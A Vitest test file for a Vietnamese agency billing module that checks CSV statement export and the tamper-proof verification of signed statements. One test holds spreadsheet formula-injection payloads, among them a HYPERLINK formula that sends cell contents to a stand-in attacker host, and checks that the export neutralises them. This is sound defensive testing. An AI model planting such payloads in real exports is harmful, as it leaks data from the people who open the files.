import { exportJWK, generateKeyPair } from 'jose';
import { describe, expect, it } from 'vitest';
import { BOM, statementCsv } from '../../../shared/billing/csv';
import {
  type SignedStatement,
  StatementVerificationError,
  signedStatementFile,
  signStatement,
  verifyStatementFile,
} from '../../../shared/billing/signed';
import { buildStatement, type Statement } from '../../../shared/billing/statement';

function sample(): Statement {
  const plan = {
    code: 'STD',
    version: 1,
    name: 'Gói tiêu chuẩn, có bậc giá',
    monthlyFeeVnd: 2_000_000,
    includedCalls: 1,
    unitPricesVnd: { 'business:read': 300 },
    tiersVnd: { 'citizen:read': [{ upTo: 2, priceVnd: 500 }, { priceVnd: 400 }] },
  };
  return buildStatement({
    agency: { id: 'ag_danang', name: 'Bảo hiểm xã hội thành phố Đà Nẵng, "BHXH-DN"' },
    period: '2026-11',
    counters: {
      agencyId: 'ag_danang',
      period: '2026-11',
      calls: 6,
      billable: 5,
      operations: { 'citizen:read': { calls: 5, billable: 4 }, 'business:read': { calls: 1, billable: 1 } },
      purposes: {},
      days: {},
      reversed: {},
      plans: {},
      pricing: { 'citizen:read': { 'STD@1': 4 }, 'business:read': { 'STD@1': 1 } },
    },
    plans: new Map([['STD@1', plan]]),
    feePlan: { code: 'STD', version: 1 },
    adjustments: [],
    vatPercent: 10,
  });
}

async function keyPair(kid: string) {
  const { privateKey, publicKey } = await generateKeyPair('ES256', { extractable: true });
  return {
    kid,
    key: privateKey,
    jwks: { keys: [{ ...(await exportJWK(publicKey)), kid, alg: 'ES256', use: 'sig' }] },
  };
}

describe('statement CSV', () => {
  it('starts with a UTF-8 byte order mark and keeps Vietnamese text intact', () => {
    const csv = statementCsv(sample());
    const bytes = Buffer.from(csv, 'utf8');
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.startsWith(BOM)).toBe(true);
    expect(bytes.toString('utf8')).toContain('Bảo hiểm xã hội thành phố Đà Nẵng');
    expect(csv).toContain('Thuế GTGT / VAT 10%');
  });

  it('quotes a cell holding a comma or a quote, so the columns stay where they are', () => {
    const lines = statementCsv(sample()).slice(1).split('\r\n');
    expect(lines[0]).toBe(
      'Bảng kê / Statement,2026-11,Cơ quan / Agency,"Bảo hiểm xã hội thành phố Đà Nẵng, ""BHXH-DN""",ag_danang',
    );
  });

  it('carries every line, tier and total of the JSON statement', () => {
    const s = sample();
    const rows = statementCsv(s).slice(1).trimEnd().split('\r\n');
    expect(rows).toContain('Bậc giá / Tier,citizen:read,STD@1,1,2,2,,,500,1000');
    expect(rows).toContain('Bậc giá / Tier,citizen:read,STD@1,3,3,1,,,400,400');
    expect(rows).toContain('Dòng / Line,citizen:read,,,,5,4,1,,1400');
    // The plan's one included call, used by the first citizen lookup.
    expect(rows[2]).toBe('Lượt miễn phí trong tháng / Included calls this month,1,Đã dùng / Used,1');
    expect(s.includedCalls).toEqual({ allowance: 1, used: 1 });
    expect(rows).toContain(`Phí tháng / Monthly fee,,STD@1,,,,,,,${s.monthlyFeeVnd}`);
    expect(rows.at(-1)).toBe(`Tổng cộng / Total,,,,,,,,,${s.totalVnd}`);
    expect(s.totalVnd).toBe(2_201_870);
  });

  it('neutralises text a spreadsheet would run as a formula, and writes the amounts it computes as numbers', () => {
    const refunded = (agencyName: string): Statement => ({
      ...sample(),
      agencyName,
      adjustments: [
        {
          period: '2026-10',
          operation: 'citizen:read',
          reason: 'reversal',
          calls: 0,
          billable: -1,
          amountVnd: -500,
          description: '-A2 refunded',
        },
      ],
    });
    const firstRow = (s: Statement) => statementCsv(s).slice(1).split('\r\n')[0];
    for (const [name, cell] of [
      [
        '=HYPERLINK("https://evil.example/?x="&A2,"Click for refund")',
        `"'=HYPERLINK(""https://evil.example/?x=""&A2,""Click for refund"")"`,
      ],
      ['+1+1', `"'+1+1"`],
      ['-A2:B9', `"'-A2:B9"`],
      ['@SUM(A1:A9)', `"'@SUM(A1:A9)"`],
      ['\t=1+1', `"'\t=1+1"`],
      ['\r=1+1', `"'\r=1+1"`],
      ['  =1+1', `"'  =1+1"`],
      ['\uFF1D1+1', `"'\uFF1D1+1"`],
    ]) {
      expect(firstRow(refunded(name!)), JSON.stringify(name)).toBe(
        `Bảng kê / Statement,2026-11,Cơ quan / Agency,${cell},ag_danang`,
      );
    }
    const rows = statementCsv(refunded('BHXH')).slice(1).trimEnd().split('\r\n');
    // A refund is -500 đồng: a number finance can add up, not text.
    expect(rows).toContain(`Điều chỉnh / Adjustment 2026-10,citizen:read,"'-A2 refunded",,,0,-1,,,-500`);
  });
});

describe('signed statement file', () => {
  it('verifies offline with the JWKS', async () => {
    const key = await keyPair('k1');
    const file = signedStatementFile(await signStatement(sample(), '2026-12-01T01:00:00.000Z', key));
    await expect(verifyStatementFile(Buffer.from(file), key.jwks)).resolves.toMatchObject({
      kid: 'k1',
      agencyId: 'ag_danang',
      period: '2026-11',
    });
  });

  it('fails when any single byte of the file is edited', async () => {
    const key = await keyPair('k1');
    const bytes = Buffer.from(
      signedStatementFile(await signStatement(sample(), '2026-12-01T01:00:00.000Z', key)),
    );
    const passed: number[] = [];
    // The last byte is the optional trailing newline; every other byte is signed content or its framing.
    for (let i = 0; i < bytes.length - 1; i++) {
      const edited = Buffer.from(bytes);
      edited[i] = edited[i] === 0x31 ? 0x32 : 0x31;
      try {
        await verifyStatementFile(edited, key.jwks);
        passed.push(i);
      } catch (error) {
        expect(error).toBeInstanceOf(StatementVerificationError);
      }
    }
    expect(passed).toEqual([]);
  });

  it('refuses a second spelling of the same signature (unused bits of the last base64url character)', async () => {
    const key = await keyPair('k1');
    const signed = await signStatement(sample(), '2026-12-01T01:00:00.000Z', key);
    const [header, payload, signature] = signed.jws.split('.') as [string, string, string];
    const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_';
    const last = alphabet.indexOf(signature.at(-1)!);
    // 64 signature bytes leave 4 unused bits in the last character: flip one, the bytes decode the same.
    const respelled = `${signature.slice(0, -1)}${alphabet[last ^ 1]}`;
    expect(Buffer.from(respelled, 'base64url')).toEqual(Buffer.from(signature, 'base64url'));
    const forged = { ...signed, jws: `${header}.${payload}.${respelled}` };
    await expect(verifyStatementFile(Buffer.from(signedStatementFile(forged)), key.jwks)).rejects.toThrow(
      'canonical',
    );
  });

  it('fails when the statement and its hash are both rewritten to match each other', async () => {
    const key = await keyPair('k1');
    const signed = await signStatement(sample(), '2026-12-01T01:00:00.000Z', key);
    const forged: SignedStatement = { ...signed, statement: { ...signed.statement, totalVnd: 1 } };
    await expect(verifyStatementFile(Buffer.from(signedStatementFile(forged)), key.jwks)).rejects.toThrow(
      'not the one that was signed',
    );
  });

  it('fails with a JWKS that does not hold the signing key', async () => {
    const key = await keyPair('k1');
    const other = await keyPair('k1');
    const file = signedStatementFile(await signStatement(sample(), '2026-12-01T01:00:00.000Z', key));
    await expect(verifyStatementFile(Buffer.from(file), other.jwks)).rejects.toThrow(
      StatementVerificationError,
    );
  });
});
